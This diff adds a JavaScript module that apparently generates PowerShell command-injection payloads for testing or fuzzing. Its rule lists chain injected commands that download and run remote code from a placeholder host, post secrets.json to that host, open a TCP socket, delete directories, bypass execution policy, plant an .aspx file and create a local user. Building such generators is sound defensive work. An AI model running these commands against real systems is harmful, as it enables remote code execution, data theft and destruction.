@@ -1,0 +1,47 @@
+import { commandGenerator } from '../command-generator.js';
+import { ARGUMENT, DOUBLE, SINGLE } from '../place.js';
+
+/** PowerShell: cmdlets, aliases, .NET. */
+export const powershellCommand = commandGenerator({
+  name: 'powershell-command',
+  shells: ['powershell'],
+  places: [ARGUMENT, DOUBLE, SINGLE],
+  rules: {
+    start: ['{leave}{join}{run}{end}', '{data}$({run})'],
+    join: [';', '; ', '|', ' | ', '\n', '&', ' && '],
+    run: [
+      'Get-Process',
+      'Get-ChildItem',
+      'Get-ChildItem C:\\ -Recurse',
+      'gci env:',
+      'Get-Content C:\\Windows\\win.ini',
+      'gc ..\\web.config',
+      'whoami',
+      'Get-Service',
+      'iex "whoami"',
+      "iex (New-Object Net.WebClient).DownloadString('http://{host}/{letters}')",
+      'IEX(IWR http://{host}/{letters}.ps1 -UseBasicParsing)',
+      "Invoke-Expression (Invoke-WebRequest 'http://{host}').Content",
+      'Invoke-WebRequest http://{host} -OutFile x.exe; .\\x.exe',
+      'Start-Process calc',
+      'Start-Sleep -s {digit}',
+      'Start-Sleep {digit}',
+      '[System.Diagnostics.Process]::Start("calc")',
+      'Remove-Item -Recurse -Force C:\\{name}',
+      'Set-ExecutionPolicy Bypass',
+      "Add-Content C:\\inetpub\\{letters}.aspx '{letters}'",
+      'New-LocalUser {letters}',
+      '[IO.File]::ReadAllText("C:\\boot.ini")',
+      'Get-WmiObject Win32_OperatingSystem',
+      'Test-Connection {host}',
+      'Resolve-DnsName {letters}.{host}',
+      '$env:USERNAME',
+      '$x=New-Object Net.Sockets.TCPClient("{host}",{port})',
+      'Get-ADUser -Filter *',
+      'ForEach-Object { whoami }',
+      'powershell -ep bypass -c whoami',
+      'Compress-Archive C:\\data x.zip',
+      'Invoke-RestMethod -Uri http://{host} -Method Post -Body (gc secrets.json)',
+    ],
+  },
+});
